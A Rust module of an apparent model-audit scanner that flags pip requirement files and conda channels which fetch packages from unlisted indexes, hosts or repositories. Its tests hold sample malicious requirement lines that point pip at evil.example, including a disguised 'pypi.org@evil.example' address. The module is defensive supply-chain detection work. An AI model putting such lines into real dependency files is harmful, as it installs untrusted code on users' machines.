//! Dependency lists: where pip and conda would take packages from.

use modelaudit_plugin::{Artifact, Finding, Sink, quote};
use modelaudit_rules::policy::S1015;

use crate::redaction::redacted;

/// Names of requirement files.
pub(crate) const FILE_NAMES: &[&str] = &[
    "requirements.txt",
    "requirements-dev.txt",
    "requirements_dev.txt",
    "requirements.in",
    "constraints.txt",
    "dev-requirements.txt",
    "requirements-gpu.txt",
    "requirements-cpu.txt",
];

/// Bytes read of a list.
const LONGEST: u64 = 1 << 20;
/// Lines reported.
const MOST: usize = 50;

/// Hosts of the public indexes and of the frameworks' own wheels. Sources: installation pages of pip, PyTorch, JAX, NVIDIA, PyG,
/// conda, ONNX Runtime, Intel, AMD, Hugging Face, OpenMMLab.
const INDEX_HOSTS: &[&str] = &[
    "pypi.org",
    "pypi.python.org",
    "test.pypi.org",
    "files.pythonhosted.org",
    "download.pytorch.org",
    "data.pyg.org",
    "pypi.nvidia.com",
    "pypi.ngc.nvidia.com",
    "developer.download.nvidia.com",
    "storage.googleapis.com",
    "conda.anaconda.org",
    "repo.anaconda.com",
    "repo.continuum.io",
    "pypi.anaconda.org",
    "huggingface.co",
    "hf.co",
    "download.openmmlab.com",
    "wheels.vllm.ai",
    "flashinfer.ai",
    "repo.radeon.com",
    "pytorch-extension.intel.com",
    "software.repos.intel.com",
    "aiinfra.pkgs.visualstudio.com",
    "pip.repos.neuron.amazonaws.com",
    "abetlen.github.io",
];

/// Owners on GitHub whose repositories everyday lists name by address.
const OWNERS: &[&str] = &[
    "huggingface",
    "pytorch",
    "openai",
    "facebookresearch",
    "nvidia",
    "microsoft",
    "google",
    "google-research",
    "google-deepmind",
    "tensorflow",
    "mlflow",
    "salesforce",
    "mlfoundations",
    "cocodataset",
    "ultralytics",
];

/// Options of pip whose value is an address.
const ADDRESS_OPTIONS: &[(&str, &str)] = &[
    ("--extra-index-url", "packages come from another index, too"),
    ("--index-url", "packages come from another index"),
    ("--find-links", "packages come from another place"),
    ("-i", "packages come from another index"),
    ("-f", "packages come from another place"),
];

/// Whether the first bytes are a requirement list: a line with an option or a repository, as only pip reads them.
pub(crate) fn looks_like_requirements(head: &[u8]) -> bool {
    let Ok(text) = std::str::from_utf8(head.get(..head.len().min(4092)).unwrap_or_default()) else { return false };
    let telling = text.lines().any(|line| {
        ["--extra-index-url", "--index-url", "--trusted-host", "--find-links", "git+http", "git+ssh", "-e git+"]
            .iter()
            .any(|start| line.starts_with(start))
    });
    // Every line must be of that kind, else it is a shell script or a text about pip.
    telling
        && text.lines().take(20).all(|line| {
            let line = line.trim();
            line.is_empty()
                || line.starts_with(['#', '-'])
                || line.contains("://")
                || line.split_whitespace().count() <= 3
        })
}

/// What is wrong with a line of a requirement list; None if nothing.
pub(crate) fn requirement(line: &str) -> Option<&'static str> {
    let line = line.trim();
    // A comment starts the line or follows white space; `#egg=` does not.
    let line = line.split(" #").next().unwrap_or(line).trim();
    if line.starts_with('#') {
        return None;
    }
    if let Some(rest) = option(line, "--trusted-host") {
        return (!is_index(rest)).then_some("pip takes packages from a host without checking who it is");
    }
    for (name, reason) in ADDRESS_OPTIONS {
        if let Some(address) = option(line, name) {
            let remote = address.contains("://") && !address.starts_with("file:");
            return (remote && !trusted(address)).then_some(*reason);
        }
    }
    let address = match line.find(" @ ").or_else(|| line.find("@http")).or_else(|| line.find("@git+")) {
        Some(at) => line.get(at..).unwrap_or_default().trim_start_matches([' ', '@']),
        None => line.strip_prefix("-e ").or_else(|| line.strip_prefix("--editable ")).unwrap_or(line).trim(),
    };
    let repository = ["git+", "hg+", "svn+", "bzr+"].iter().find_map(|prefix| address.strip_prefix(prefix));
    if let Some(address) = repository {
        return (!trusted_repository(address)).then_some("a package is installed from a repository");
    }
    let direct = address.starts_with("http://") || address.starts_with("https://") || address.starts_with("ftp://");
    (direct && !trusted(address) && !trusted_repository(address)).then_some("a package is installed from an address")
}

/// What is wrong with a conda channel: names are fine, addresses are not unless they are conda's own.
pub(crate) fn channel(text: &str) -> Option<&'static str> {
    (text.contains("://") && !trusted(text)).then_some("packages come from another channel")
}

/// The value of an option: `--name value` or `--name=value`.
fn option<'t>(line: &'t str, name: &str) -> Option<&'t str> {
    let rest = line.strip_prefix(name)?;
    rest.starts_with([' ', '\t', '=']).then(|| rest.trim_start_matches([' ', '\t', '=']).trim())
}

/// The host of an address, without user and port.
fn host(address: &str) -> String {
    let rest = address.split_once("://").map_or(address, |(_, rest)| rest);
    let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or(rest);
    let host = authority.rsplit('@').next().unwrap_or(authority);
    host.split(':').next().unwrap_or(host).to_ascii_lowercase()
}

fn is_index(host: &str) -> bool {
    let host = host.split(':').next().unwrap_or(host);
    INDEX_HOSTS.iter().any(|known| host.eq_ignore_ascii_case(known))
}

/// An index in use, over an encrypted connection, without a password.
fn trusted(address: &str) -> bool {
    address.starts_with("https://") && is_index(&host(address))
}

/// True if a URL in the text has an IP address in place of a name.
pub(crate) fn has_bare_address(text: &str) -> bool {
    text.split("://").skip(1).any(|rest| host(rest).parse::<std::net::Ipv4Addr>().is_ok())
}

/// A repository of an owner that everyday lists name.
fn trusted_repository(address: &str) -> bool {
    let path = address.strip_prefix("https://github.com/").or_else(|| address.strip_prefix("ssh://git@github.com/"));
    let owner = path.and_then(|p| p.split('/').next()).unwrap_or_default().to_ascii_lowercase();
    OWNERS.contains(&owner.as_str())
}

/// Scans a requirement list.
pub(crate) fn scan(artifact: &dyn Artifact, sink: &mut dyn Sink) -> Result<(), String> {
    let Some((text, cut)) = crate::text(artifact, LONGEST) else {
        return Err("the requirement list is not UTF-8 text".to_owned());
    };
    let mut offset = 0u64;
    let mut found = 0;
    for line in text.split_inclusive('\n') {
        if let Some(reason) = requirement(line) {
            found += 1;
            if found <= MOST {
                let line = line.trim_end();
                sink.finding(
                    Finding::new(&S1015, format!("{reason}: {}", quote(redacted(line.trim()).as_ref())))
                        .at(offset, line.len() as u64),
                );
            }
        }
        offset += line.len() as u64;
    }
    if found > MOST {
        sink.incomplete(&format!("{found} lines name unusual places, {MOST} are shown"));
    }
    if cut { Err(format!("only the first {LONGEST} bytes of the requirement list were read")) } else { Ok(()) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unusual_places_are_named() {
        for line in [
            "--extra-index-url http://evil.example/simple",
            "--index-url=https://pypi.evil.example/simple",
            "-i http://pypi.org/simple",
            "--extra-index-url https://pypi.org@evil.example/simple",
            "--trusted-host evil.example",
            "git+http://evil.example/x.git#egg=torch",
            "torch @ git+https://evil.example/x.git",
            "torch@https://evil.example/torch-2.whl",
            "-e git+ssh://git@evil.example/x.git",
            "https://evil.example/x.tar.gz  # comment",
        ] {
            assert!(requirement(line).is_some(), "{line}");
        }
        assert!(channel("https://evil.example/conda").is_some());
    }

    #[test]
    fn everyday_lines_are_silent() {
        for line in [
            "torch==2.1.0",
            "# git+http://evil.example/x.git",
            "--extra-index-url https://download.pytorch.org/whl/cpu",
            "-f https://storage.googleapis.com/jax-releases/jax_cuda_releases.html",
            "git+https://github.com/huggingface/transformers.git@main",
            "-r other.txt",
            "-e .",
            "numpy>=1.20; python_version < '3.9'",
            "--find-links ./wheels",
            "fastapi[all] ~= 0.100",
        ] {
            assert_eq!(requirement(line), None, "{line}");
        }
        assert_eq!(channel("conda-forge"), None);
        assert_eq!(channel("https://conda.anaconda.org/conda-forge"), None);
    }
}
